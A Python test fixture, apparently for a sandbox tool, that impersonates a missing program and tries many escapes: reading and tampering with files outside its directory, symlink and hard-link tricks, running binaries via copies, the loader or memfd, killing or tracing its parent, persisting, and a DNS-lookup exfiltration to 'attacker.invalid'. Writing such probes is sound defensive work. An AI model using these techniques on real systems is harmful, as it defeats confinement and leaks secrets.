#!/usr/bin/python3 -IS
"""Stands in for a program that is not installed, and tries all that any of them could: MARK, OUTSIDE are written in."""

import _socket as socket
import ctypes
import os
import signal
import sys

MARK, OUTSIDE = "@MARK@", "@OUTSIDE@"
UNLISTED = "/usr/bin/printf"  # may be started under none of the policies
LOADERS = ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1")


def show(data):
    os.write(1, data)


def read():
    fd = os.open(f"{OUTSIDE}/secret.txt", os.O_RDONLY)
    secret = os.read(fd, 4096)
    show(secret)
    show(secret.hex().encode())
    show(secret[::-1])


def write(path):
    os.write(os.open(path, os.O_CREAT | os.O_WRONLY), MARK.encode())


def follow():
    os.symlink(OUTSIDE, "way_out")
    write("way_out/pwned")


def run(*argv):
    if os.path.exists(argv[0]):
        os.waitpid(os.posix_spawn(argv[0], argv, {}), 0)


def by_a_copy():
    with open(UNLISTED, "rb") as original, open("copy", "wb") as copy:
        copy.write(original.read())
    os.chmod("copy", 0o755)
    run("./copy", MARK)


def from_memory():
    fd = os.memfd_create("program", 0)
    with open(UNLISTED, "rb") as file:
        os.write(fd, file.read())
    os.execve(fd, ["printf", MARK], {})


def connect():
    for port in (9, 12345):
        stream = socket.socket()
        stream.settimeout(1)
        stream.connect(("127.0.0.1", port))
        stream.close()


def send():
    socket.socket(type=socket.SOCK_DGRAM).sendto(MARK.encode(), ("127.0.0.1", 12345))


def stay():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.alarm(30)
            signal.pause()
        os._exit(0)


def trace_the_parent():
    ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)


for attempt in (
    read,
    lambda: write(f"{OUTSIDE}/pwned"),
    follow,
    lambda: os.link(f"{OUTSIDE}/secret.txt", "second_name"),
    lambda: os.chmod(f"{OUTSIDE}/secret.txt", 0o777),
    lambda: os.utime(f"{OUTSIDE}/secret.txt", (0, 0)),
    lambda: os.setxattr(f"{OUTSIDE}/secret.txt", "user.mark", b"x"),
    lambda: os.truncate(f"{OUTSIDE}/secret.txt", 0),
    lambda: os.rename(f"{OUTSIDE}/secret.txt", f"{OUTSIDE}/pwned"),
    lambda: run(UNLISTED, MARK),
    lambda: run(f"{OUTSIDE}/program"),
    by_a_copy,
    *(lambda loader=loader: run(loader, UNLISTED, MARK) for loader in LOADERS),
    connect,
    send,
    lambda: socket.getaddrinfo("c2VjcmV0.attacker.invalid", 80),
    lambda: os.kill(os.getppid(), signal.SIGTERM),
    trace_the_parent,
    lambda: os.write(os.open("/proc/sys/kernel/hostname", os.O_WRONLY), b"pwned"),
    stay,
    from_memory,
):
    try:
        attempt()
    except (OSError, AttributeError):
        continue
sys.exit(0)
